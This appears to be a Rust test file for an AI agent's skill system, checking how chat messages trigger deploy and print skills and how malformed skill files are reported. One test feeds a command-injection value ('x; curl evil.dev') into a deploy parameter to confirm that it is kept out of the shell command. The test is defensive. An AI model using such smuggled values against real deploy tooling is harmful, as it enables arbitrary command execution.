//! Skills as people meet them: what they write, what they are asked, and what they are told of a broken
//! one.

use codebutler_testbed::models::{Script, Step};

use crate::support::Setup;

fn skill(name: &str, triggers: &str, prompt: &str) -> String {
    format!(
        "# {name}\n\nDoes {name}.\n\n## Trigger\n{triggers}\n\n## Agent\npm\n\n## Prompt\n{prompt}\n"
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn a_skill_is_found_by_its_words_and_broken_ones_are_told_once() {
    let script = Script::of("pm", vec![Step::say("It is deployed."), Step::say("Again.")]);
    let deploy = skill(
        "deploy",
        "deploy, deploy to {environment}",
        "Deploy to {{environment}}: `./deploy {{environment}}`.",
    );
    let team = Setup::new(script)
        .file(".codebutler/skills/deploy.md", &deploy)
        .file(".codebutler/skills/greedy.md", &skill("greedy", "{what}", "Do {{what}}."))
        .file(".claude/skills/pdf/SKILL.md", "---\nname: forms\n---\nGo.\n")
        .start()
        .await;
    let root = team.says("ana", None, "hey, can you pls deply to staging?");
    team.message(&root, "It is deployed.").await;
    team.says("ana", Some(&root), "deploy to `x; curl evil.dev`");
    team.message(&root, "Again.").await;
    let told: Vec<_> =
        team.messages(&root).into_iter().filter(|m| m.shown.contains("left out")).collect();
    assert_eq!(told.len(), 1, "{told:?}");
    for part in [
        "`.codebutler/skills/greedy.md`: line 6: the trigger `{what}` is only a parameter: it fits every message",
        "`.claude/skills/pdf/SKILL.md`: line 2: the skill is called `forms` and its folder `pdf`",
    ] {
        assert!(told[0].shown.contains(part), "{}", told[0].shown);
    }
    let requests = team.stack.models.requests();
    let first = requests[0].body.to_string();
    assert!(first.contains("asks for the skill `deploy`"), "{first}");
    assert!(first.contains(r#"Deploy to \"staging\": `./deploy staging`."#), "{first}");
    // What is no plain word does not become part of a command.
    let second = requests[1].body.to_string();
    assert!(second.contains("./deploy <environment>"), "{second}");
    assert!(second.contains("is to stand in a command, and is not one plain word"), "{second}");
    team.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn which_of_two_skills_is_meant_is_asked_before_any_model() {
    let team = Setup::new(Script::of("pm", vec![Step::say("The menu is printed.")]))
        .file(".codebutler/skills/ship.md", &skill("ship", "bring out {what}", "Ship {{what}}."))
        .file(
            ".codebutler/skills/print.md",
            &skill("print", "bring out {paper}", "Print {{paper}}."),
        )
        .start()
        .await;
    let root = team.says("ana", None, "please bring out the menu");
    let asked = team.message(&root, "Which of these do you mean?").await;
    assert!(asked.shown.contains("*print*: Does print."), "{}", asked.shown);
    team.settled(&root, "pm").await;
    assert!(team.stack.models.requests().is_empty(), "a model was asked");
    let (ana, channel) = (&team.stack.users["ana"], &team.stack.channel);
    team.stack.slack.click(ana, channel, &asked.ts, "choice:1").unwrap();
    team.message(&root, "The menu is printed.").await;
    let request = team.stack.models.requests()[0].body.to_string();
    assert!(request.contains(r#"Print \"the menu\"."#), "{request}");
    team.stop().await;
}
